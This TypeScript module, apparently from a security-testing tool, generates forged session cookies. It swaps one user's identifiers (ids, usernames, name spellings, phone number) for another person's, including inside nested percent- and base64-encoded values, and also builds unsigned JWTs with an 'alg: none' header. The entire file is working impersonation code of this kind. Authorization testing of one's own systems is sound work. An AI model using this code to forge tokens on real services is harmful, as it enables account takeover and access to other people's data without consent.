import { percentDecoded } from '../../text/decode.ts';
import { userIdOf } from '../center/oauth.ts';
import { spellingsOf } from './names.ts';
import type { Person } from './world.ts';

type Names = readonly (readonly [own: string, other: string])[];

/** Rewrites a cookie of someone to name another person: with the signature as it is, and as a JWT without one. */
export function forgeriesOf(value: string, own: Person, other: Person): readonly string[] {
  const others = textsOf(other);
  const names = textsOf(own).map((text, index) => [text, others[index] ?? ''] as const);
  const signed = (['base64url', 'base64'] as const).flatMap((encoding) => {
    const changed = rewritten(value, names, encoding);
    return changed === value ? [] : [changed];
  });
  const header = Buffer.from('{"alg":"none","typ":"JWT"}').toString('base64url');
  const unsigned = signed.flatMap((one) => /^[\w-]+(\.[\w-]+\.)[\w-]*$/.exec(one)?.[1] ?? []);
  return [...new Set([...signed, ...unsigned.map((payload) => header + payload)])];
}

function textsOf({ organisation: { id, code, name: company }, userName, name, mobile }: Person): string[] {
  return [id, code, company, userIdOf(id, userName), userName, ...spellingsOf(name), mobile];
}

/** Replaces names in a text, also where it is encoded once or several times. */
function rewritten(text: string, names: Names, base64: 'base64' | 'base64url'): string {
  const decoded = percentDecoded(text);
  if (decoded !== text) {
    const changed = rewritten(decoded, names, base64);
    return changed === decoded ? text : encodeURIComponent(changed);
  }
  const plain = names.reduce((rest, [own, other]) => rest.replaceAll(own, other), text);
  return plain.replace(/[\w+/-]{8,}={0,2}/g, (token) => {
    const inside = Buffer.from(token, base64).toString();
    const changed = rewritten(inside, names, base64);
    return changed === inside ? token : Buffer.from(changed).toString(base64);
  });
}
